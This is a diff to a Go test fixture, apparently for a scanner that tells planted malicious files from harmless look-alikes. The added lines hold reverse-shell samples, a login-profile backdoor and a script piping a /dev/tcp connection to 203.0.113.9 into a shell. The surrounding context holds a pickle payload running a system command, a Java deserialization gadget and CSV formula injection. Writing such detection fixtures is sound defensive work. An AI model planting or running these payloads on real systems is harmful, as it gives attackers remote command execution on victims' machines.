@@ -152,10 +152,16 @@ var planting = map[string]string{
 	"model2.pkl":    "\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R.",
 	"msg.ser":       "\xac\xed\x00\x05sr\x00\x11java.util.HashSet\x00sr\x004org.apache.commons.collections.functors.InvokerTransformer",
 	"b.csv":         "name;phone\r\nada;\"+cmd|' /C calc'!A0\"\r\n@SUM(1+1)*cmd|' /C calc'!A0;1\r\n",
+	".profile":      "# mine\n(setsid sh -c \"exec 7<>/dev/tcp/203.0.113.9/443; cat <&7 | sh >&7 2>&7\" &)\n",
+	"fd.sh":         "#!/bin/bash\nexec 7<>/dev/tcp/203.0.113.9/443\nbash <&7 >&7\n",
 }
 
 // harmless are files that look like those, and are part of an ordinary deployment.
 var harmless = map[string]string{
+	"ports.sh":          "#!/bin/bash\nbash -c \"exec 3<>/dev/tcp/10.0.0.9/22\" && echo up\n",
+	"get.sh":            "#!/bin/bash\nexec 3<>/dev/tcp/www.example/80\nprintf 'GET / HTTP/1.0\\r\\n' >&3\ncat <&3\n",
+	"ftpd.passwd":       "ada:$1$x$y:1000:1000::/home/ada:/bin/sh\nbob:$1$x$y:1001:0::/home/bob:/bin/sh\nroot:$1$x$y:0:0::/root:/bin/sh\n",
+	"counter.html":      `<script>document.write(unescape("%3Ciframe src='https://www.example/map' width=400%3E%3C/iframe%3E"));</script>`,
 	"Default.aspx":      `<%@ Page Language="C#" CodeBehind="Default.aspx.cs" Inherits="Site.Default" %><html><%= Request["name"] %></html>`,
 	"convert.aspx":      `<%@ Page Language="C#" %><script runat="server">void Go(){ var p = Process.Start("convert.exe", "in.png out.jpg"); var n = Request["name"]; }</script>`,
 	"plugins.aspx":      `<%@ Page Language="C#" %><% var a = System.Reflection.Assembly.Load("Site.Plugins"); var n = Request["name"]; %>`,
